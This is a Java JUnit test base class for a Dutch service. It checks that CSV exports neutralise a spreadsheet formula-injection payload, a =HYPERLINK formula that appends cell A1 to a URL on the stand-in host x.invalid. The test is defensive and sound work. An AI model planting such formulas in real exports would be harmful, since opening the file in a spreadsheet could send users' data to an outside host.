package nl.kansrijk.service;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import java.util.Map;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Issue 33 over real HTTP against a started server: safe exports, roles, abuse-resistant login, the hash chain and
 * the audited period. Run against H2 and against PostgreSQL.
 */
abstract class VertrouwenTestBasis {

    static final String HYPERLINK = "=HYPERLINK(\"http://x.invalid/?\"&A1,\"dossier\")";

    @TempDir
    Path tmp;

    Proefopstelling w;
    Klant rv;

    abstract TestDatabase database(Path dir) throws Exception;

    @BeforeEach
    void start() throws Exception {
        w = new Proefopstelling(tmp, database(tmp), Proefopstelling.MINI, 256 * 1024);
        rv = w.ingelogd("rv-001");
    }

    @AfterEach
    void stop() {
        if (w != null) {
            w.close();
        }
    }

    @Test
    void aFormulaInAReasonIsExportedAsText() {
        var advies = rv.get("/api/huishoudens/H01/advies").json();
        long versie = advies.get("plan_versie").asLong();
        String tweede = advies.get("advies").get(1).get("gemeente_code").asString();
        assertThat(rv.post("/api/koppelingen", ApiTestBasis.beslissing("H01", tweede, HYPERLINK, versie)).status())
                .isEqualTo(201);

        String log = rv.get("/api/export/beslissingen.csv").tekst();
        assertThat(log).contains(",\"'=HYPERLINK(").doesNotContain(",\"=HYPERLINK(");
        String koppelingen = rv.get("/api/export/koppelingen.csv").tekst();
        String h01 = koppelingen.lines().filter(l -> l.startsWith("H01,")).findFirst().orElseThrow();
        assertThat(h01).endsWith(",\"'=HYPERLINK(\"\"http://x.invalid/?\"\"&A1,\"\"dossier\"\")\"");
        assertThat(rv.get("/api/huishoudens/H01/uitleg").json().get("overrule_reden").asString()).isEqualTo(HYPERLINK);
    }
}
